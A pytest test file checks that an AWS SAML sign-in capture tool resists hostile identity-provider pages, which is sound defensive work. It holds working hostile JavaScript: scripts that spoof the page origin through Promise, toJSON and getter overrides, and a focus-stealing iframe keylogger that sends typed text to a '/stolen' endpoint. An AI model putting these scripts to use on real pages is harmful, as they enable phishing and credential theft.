"""Attacks by the pages of a sign-in: they lie about themselves to the script that reads them."""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import contextmanager
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest

from aws_saml_ext.capture.browser.engine import WatchedBrowser
from aws_saml_ext.capture.flow.sign_in_flow import capturing
from aws_saml_ext.config.flows import Flow
from aws_saml_ext.config.settings import Settings
from aws_saml_ext.errors import (
    ConfigError,
    IdentityProviderRefused,
    SamlLoginError,
    SignInRequired,
)
from tests import browsers
from tests.described_pages import browsing
from tests.doubles import FakePrompt
from tests.geckodriver import firefox, firefox_settings
from tests.patience import until
from tests.samples import SIGN_IN_PAGE
from tests.web import Answer, Web, serving

pytestmark = pytest.mark.browser

FAR = "http://attacker.example"
LIE = "https://idp.example.com"

# The page's scripts see, and change, what a script in their world returns.
LIES = f"""<script>
const lie = {LIE!r}, then = Promise.prototype.then, far = location.origin
const lied = value => {{
  if (value === far) return lie
  if (!Array.isArray(value) || !value[0]) return value
  value[0].origin = value[0].address = lie
  for (const group of value[0].groups || []) group.action = lie
  return value
}}
Promise.prototype.then = function (done, failed) {{
  return then.call(this, value => done ? done(lied(value)) : lied(value), failed)
}}
</script>"""
LIES_IN_JSON = f"""<script>
Object.prototype.toJSON = function () {{
  const lies = {{ toJSON: undefined, origin: {LIE!r}, address: {LIE!r} }}
  return "origin" in this ? {{ ...this, ...lies }} : this
}}
</script>"""
LIES_OF_GETTERS = f"""<script>
for (const name of ["URL", "documentURI", "baseURI", "domain"])
  Object.defineProperty(Document.prototype, name, {{ get: () => {LIE!r} }})
for (const name of ["origin", "address", "action", "href"])
  Object.defineProperty(Object.prototype, name, {{ get: () => {LIE!r}, set() {{}} }})
</script>"""
# It makes every script fail that uses one of these.
SABOTAGE = """<script>
const fail = () => { throw new TypeError("sabotage") }
for (const name of ["map", "flatMap", "filter", "some", "forEach", "slice"])
  Array.prototype[name] = fail
Object.prototype.toJSON = JSON.stringify = fail
Document.prototype.createTreeWalker = Document.prototype.querySelectorAll = fail
Performance.prototype.now = fail
for (const name of ["readyState", "title", "documentElement", "documentURI"])
  Object.defineProperty(Document.prototype, name, { get: fail })
</script>"""


@pytest.fixture(scope="module")
def web() -> Iterator[Web]:
    with serving({}) as served:
        yield served


@pytest.fixture(scope="module", params=["chromium", "firefox"])
def browser(request: pytest.FixtureRequest, web: Web) -> Iterator[WatchedBrowser]:
    """A browser whose proxy for everything but loopback is `web`."""
    with pytest.MonkeyPatch.context() as patched:
        for name in ("HTTP_PROXY", "http_proxy"):
            patched.setenv(name, f"http://127.0.0.1:{web.port}")
        for name in ("NO_PROXY", "no_proxy"):
            patched.setenv(name, "127.0.0.1,localhost")
        if request.param == "firefox":
            programs = firefox()
            settings = firefox_settings(browser_driver=programs.driver)
        else:
            programs, settings = browsers.chromium(), browsers.settings()
        with browsing(programs, settings) as started:
            yield started


def sign_in(address: str, browser: WatchedBrowser, prompt: FakePrompt, **changed: Any) -> str:
    """The SAMLResponse, with a browser that is there already and stays."""
    browser.open("about:blank")  # the last page of another test is not read as the first of this
    assert until(lambda: browser.driver.current_url == "about:blank")

    @contextmanager
    def start(*_: object) -> Iterator[WatchedBrowser]:
        yield browser

    @contextmanager
    def folder(_: Settings) -> Iterator[Path]:
        yield Path("unused")

    capture = capturing(start, prompt, profile_folder=folder, environ={}, platform="linux")
    wanted = browsers.settings(idp_url=address, timeout=timedelta(seconds=20), **changed)
    with capture(wanted) as captured:
        return captured.saml_response


def refused(address: str, browser: WatchedBrowser) -> tuple[str, list[str]]:
    """Return the error, and the questions that were asked."""
    prompt = FakePrompt(["jane", "secret"])
    with pytest.raises(ConfigError) as caught:
        sign_in(address, browser, prompt)
    return str(caught.value), prompt.asked


@pytest.mark.parametrize(
    "lies", [LIES, LIES_IN_JSON, LIES_OF_GETTERS], ids=["promises", "JSON", "getters"]
)
def test_a_page_on_http_that_says_it_is_on_https_is_asked_for_nothing_and_gets_nothing(
    lies: str, browser: WatchedBrowser, web: Web
) -> None:
    web.pages[f"{FAR}/"] = Answer(lies + SIGN_IN_PAGE)
    said, asked = refused(f"{FAR}/", browser)
    assert said.startswith("attacker.example asks for a sign-in over http")
    assert asked == []


def test_a_form_that_a_button_sends_over_http_is_not_filled_in(
    browser: WatchedBrowser, web: Web
) -> None:
    web.pages["/form"] = Answer(SIGN_IN_PAGE.replace("<button>", f"<button formaction={FAR}>"))
    said, asked = refused(web.url("/form"), browser)
    assert said.startswith("attacker.example asks for a sign-in over http")
    assert asked == []


@pytest.mark.parametrize("lies", [LIES, LIES_OF_GETTERS, SABOTAGE], ids=["lies", "getters", "all"])
def test_a_page_that_breaks_its_own_scripts_is_read_all_the_same(
    lies: str, browser: WatchedBrowser, web: Web
) -> None:
    web.pages["/form"] = Answer(lies + SIGN_IN_PAGE)
    prompt = FakePrompt(["jane", "secret"])
    assert sign_in(web.url("/form"), browser, prompt) == "QUJD"
    assert prompt.asked == ["User name: ", "Password: (hidden)"]


# ---- frames of another origin ----

# It takes the focus again and again, and tells its site what is typed there.
THIEF = """<input id=i autofocus><script>
i.oninput = () => fetch("/stolen?" + encodeURIComponent(i.value))
setInterval(() => { window.focus(); i.focus() }, 0)
</script>"""
# Where the page asks a number of its script, it gets a word.
NO_NUMBERS = "<script>globalThis.String = () => 'many'</script>"


def framed(address: str) -> str:
    return f"<title>Sign in</title><iframe width=600 height=400 src={address}></iframe>"


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost"])
def test_a_frame_that_takes_the_focus_gets_nothing_of_what_is_typed(
    host: str, browser: WatchedBrowser, web: Web, attacker: Web
) -> None:
    attacker.pages["/thief"] = Answer(THIEF)
    web.pages["/idp"] = Answer(SIGN_IN_PAGE + framed(attacker.url("/thief", host)))
    assert sign_in(web.url("/idp"), browser, FakePrompt(["jane", "secret"])) == "QUJD"
    assert "GET /thief" in attacker.requests
    assert [request for request in attacker.requests if "stolen" in request] == []


def test_a_frame_that_gives_words_for_numbers_ends_in_words_too(
    browser: WatchedBrowser, web: Web, attacker: Web
) -> None:
    attacker.pages["/words"] = Answer(NO_NUMBERS + SIGN_IN_PAGE)
    web.pages["/idp"] = Answer(framed(attacker.url("/words", "localhost")))
    with pytest.raises(SamlLoginError):
        sign_in(web.url("/idp"), browser, FakePrompt(["jane", "secret"]))


def test_a_frame_without_an_address_gets_nothing(browser: WatchedBrowser, web: Web) -> None:
    web.pages["/idp"] = Answer(f"<title>Sign in</title><iframe srcdoc='{SIGN_IN_PAGE}'></iframe>")
    said, asked = refused(web.url("/idp"), browser)
    assert said.startswith("127.0.0.1 asks for a sign-in in a part that has no address")
    assert asked == []


# ---- a password that no person types ----

# The script of the page sends it at its last key, before the box is ticked.
HASTY = """<title>Sign in</title><form method=post action=/wrong>
<label>Password <input id=p type=password name=password></label>
<label><input type=checkbox name=keep> Keep me signed in</label><button>Sign in</button></form>
<script>p.oninput = () => { if (p.value.length === 6) document.forms[0].submit() }</script>"""


def test_a_form_that_submits_itself_gets_a_wrong_password_once(
    browser: WatchedBrowser, web: Web, tmp_path: Path
) -> None:
    web.requests.clear()
    web.pages |= {"/idp": Answer(HASTY), "/wrong": Answer("<p>Wrong password.</p>" + HASTY)}
    command = {"username": "jane", "password_command": ("echo", "secret"), "saml_folder": tmp_path}
    with pytest.raises(IdentityProviderRefused, match="Wrong password"):
        sign_in(web.url("/idp"), browser, FakePrompt(), sign_in=Flow.SILENT, **command)
    with pytest.raises(SignInRequired, match="has refused"):
        sign_in(web.url("/idp"), browser, FakePrompt(), sign_in=Flow.SILENT, **command)
    assert web.requests.count("POST /wrong") == 1


THEFT = SIGN_IN_PAGE.replace("action=https://signin.aws.amazon.com/saml", "action=/stolen")


@pytest.fixture(scope="module")
def attacker() -> Iterator[Web]:
    with serving({"/": Answer(LIES_OF_GETTERS + THEFT)}) as served:
        yield served


@pytest.mark.parametrize("way", ["redirect", "frame"])
def test_a_password_of_a_command_does_not_follow_the_page_to_another_origin(
    way: str, browser: WatchedBrowser, web: Web, attacker: Web, tmp_path: Path
) -> None:
    there = attacker.url("/")
    frame = Answer(f"<title>Sign in</title><iframe width=600 height=400 src={there}></iframe>")
    web.pages["/idp"] = frame if way == "frame" else Answer("", 302, {"Location": there})
    command = {"username": "jane", "password_command": ("echo", "secret"), "saml_folder": tmp_path}
    with pytest.raises(SignInRequired) as caught:
        sign_in(web.url("/idp"), browser, FakePrompt(), sign_in=Flow.SILENT, **command)
    host = f"127.0.0.1:{attacker.port}"
    assert str(caught.value).startswith(host)
    assert "asks for the password of saml_password_command" in str(caught.value)
    prompt = FakePrompt(["n", ""])
    with pytest.raises(Exception, match=r"closed|typed"):
        sign_in(web.url("/idp"), browser, prompt, **command)
    assert host in prompt.asked[0]
    assert [request for request in attacker.requests if "stolen" in request] == []
